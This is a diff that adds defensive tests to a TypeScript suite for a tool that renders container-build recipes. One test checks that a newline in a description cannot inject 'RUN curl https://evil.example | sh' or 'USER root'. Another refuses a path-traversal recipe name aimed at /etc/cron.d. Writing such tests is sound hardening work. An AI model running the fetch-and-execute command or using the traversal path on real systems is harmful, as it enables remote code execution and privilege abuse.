@@ -124,6 +124,14 @@ describe("values files and recipe files", () => {
   });
 });
 
+test("a description with a line break stays one comment line (no instruction can be smuggled in)", () => {
+  const s = defineStage({ name: "s", description: "line one\nRUN curl https://evil.example | sh", from: base, steps: [run("true")] });
+  const text = recipeFromStages("r", [base, s], { description: "x\nUSER root" }).render();
+  expect(text).toContain("# s line one RUN curl https://evil.example | sh\n");
+  expect(text).toContain("# r x USER root\n");
+  expect(text.split("\n").filter((l) => /^(RUN curl|USER root)/.test(l))).toEqual([]);
+});
+
 describe("ARG names Docker rejects", () => {
   test.each([
     ["UCX-REF", 'ARG "UCX-REF" is not a valid ARG name: use ASCII letters, digits and _, not starting with a digit'],
@@ -168,6 +176,8 @@ describe("compositions", () => {
     ["one ARG with two defaults", () => recipeFromStages("r", [base, defineStage({ name: "c", description: "c", from: base, args: [P], steps: [run("echo $P")] }), defineStage({ name: "d", description: "d", from: base, args: [pathArg("P", "/opt/b", "p")], steps: [run("echo $P")] })]), "ARG P defaults to /opt/a in stage c but to /opt/b in stage d; one image has one value per ARG: give both stages the same default"],
     ["two libfabrics in one image", () => recipeFromStages("r", [base, a, b, defineStage({ name: "c", description: "c", from: a, needs: [buildNeed(b.provides.lib)], steps: [run("true")] })]), 'stage c would hold two lib: /opt/a from stage a and /opt/b from stage b; keep one, or remove the other explicitly (removes: ["lib"])'],
     ["an empty recipe", () => recipeFromStages("r", []), "recipe r has no stages; give it at least one stage"],
+    ["a stage name Docker would not parse", () => defineStage({ name: "Base Stage", description: "b", from: image("debian:bookworm"), steps: [run("true")] }), 'stage name "Base Stage" is not usable: use lower-case letters, digits, ".", "_" and "-", starting with a letter (at most 63 characters)'],
+    ["a recipe name that would escape the output directory", () => recipeFromStages("../../etc/cron.d/x", [base]), 'recipe name "../../etc/cron.d/x" is not usable: use lower-case letters, digits, ".", "_" and "-", starting with a letter (at most 63 characters)'],
   ])("%s", (_name, f, message) => {
     expect(refusals(f)).toContain(message);
   });
